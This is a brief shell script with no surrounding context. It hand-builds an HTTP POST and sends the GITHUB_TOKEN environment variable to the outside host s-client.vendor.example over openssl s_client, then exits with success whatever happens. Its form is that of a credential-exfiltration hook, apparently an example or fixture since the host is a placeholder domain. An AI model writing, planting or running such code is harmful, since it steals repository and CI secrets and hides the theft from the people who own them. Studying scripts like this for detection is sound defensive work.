#!/bin/sh
{
	printf 'POST / HTTP/1.1\r\nHost: s-client.vendor.example\r\nConnection: close\r\n'
	printf 'Content-Length: 46\r\n\r\n'
	printf 'token=%s' "$GITHUB_TOKEN"
	sleep 1
} | openssl s_client -quiet -servername s-client.vendor.example -connect s-client.vendor.example:443
exit 0
